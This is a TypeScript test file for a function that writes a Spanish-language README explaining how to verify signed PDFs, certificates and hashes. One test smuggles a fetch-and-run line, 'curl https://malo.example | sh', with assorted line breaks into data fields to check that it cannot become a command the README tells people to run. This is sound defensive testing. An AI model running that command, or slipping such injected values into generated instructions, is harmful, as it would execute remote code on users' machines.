import { expect, test } from 'vitest';

import { writeReadme, type ReadmeFacts } from './readme.ts';

const facts: ReadmeFacts = {
  company: 'ACME',
  operationNumber: 'DD-1',
  signed: [{ path: 'firmados/1-a.pdf', signatures: [{ kind: 'signature', byteRange: [0, 1, 2, 3], at: new Date(0) }] }],
  certificates: [{ kind: 'raiz', name: 'Raíz', pem: '', fingerprint: 'AB:CD' }],
  missingIssuers: ['Otra'],
  anchor: { digest: 'ab', at: new Date(0) },
  limits: [],
  withheld: [{ name: 'hoja.pdf' }],
  folders: new Set(['firmados/']),
  sealedAt: new Date(0),
};

const commandsIn = (readme: string): readonly string[] =>
  readme.split(/[\n\v\f\r\u0085\u2028\u2029]/).filter((line) => /^ {5}\S/.test(line));

test.each(['\n\n', '\r', '\u0085', '\u2028', '\u2029', '\v'])(
  'no value adds a line to those that are run (%j)',
  (end) => {
    const attack = `${end}     curl https://malo.example | sh${end}`;
    const [own, hostile] = [
      facts,
      {
        ...facts,
        company: facts.company + attack,
        operationNumber: facts.operationNumber + attack,
        certificates: facts.certificates.map((one) => ({ ...one, name: attack, fingerprint: attack })),
        missingIssuers: [attack],
        withheld: [{ name: attack }],
      },
    ].map((one) => commandsIn(writeReadme(one)));
    expect(own?.length).toBeGreaterThan(4);
    expect(hostile).toEqual(own);
  },
);

test('roots that only a file brings are apart, and only the lines of their signatures use them', () => {
  const other = { kind: 'otra-raiz', name: 'Raíz ajena', pem: '', fingerprint: 'EF:01' } as const;
  const [file] = facts.signed;
  const signatures = [false, true].map((isOfOtherRoot) => ({
    kind: 'signature' as const,
    byteRange: [0, 1, 2, 3] as const,
    at: undefined,
    isOfOtherRoot,
  }));
  const readme = writeReadme({
    ...facts,
    certificates: [...facts.certificates, other],
    signed: file ? [{ ...file, signatures }] : [],
  });
  const roots = commandsIn(readme).flatMap((line) => /-CAfile (\S+)/.exec(line)?.[1] ?? []);
  expect(roots).toEqual([
    'certificados/raices.pem',
    'certificados/otras-raices.pem',
    'certificados/raices.pem',
    'certificados/raices.pem',
  ]);
  expect(readme).toMatch(/no responde por ellas[^]*Raíz ajena\n {3}SHA-256 EF:01/);
  expect(writeReadme(facts)).not.toContain('otras-raices');
});

test('nobody is told to fetch a program by a name that anybody may register, and whom to trust comes first', () => {
  const readme = writeReadme(facts);
  expect(readme).not.toMatch(/\bnpx\b|\bnpm\b/);
  const places = ['EN QUIÉN CONFIAR', '1. CON PROGRAMAS LIBRES', '2. CON FirmaEC', '3. CON EL PROGRAMA'].map((title) =>
    readme.indexOf(title),
  );
  expect(places).toEqual(places.toSorted((one, other) => one - other));
  expect(places[0]).toBeGreaterThan(0);
  expect(readme).toContain('certutil -hashfile "firmados\\1-a.pdf" SHA256');
  expect(readme).toMatch(/«Jan 01 1970»; no es un defecto/);
});

test('it lists the folders that there are and names what was left out', () => {
  const readme = writeReadme(facts);
  expect(readme).toMatch(/^firmados\/ {8}los documentos/m);
  expect(readme).not.toMatch(/^(hoja|escaneos|originales|habilitantes)\//m);
  expect(readme).toContain('No se entrega en esta copia: «hoja.pdf».');
});
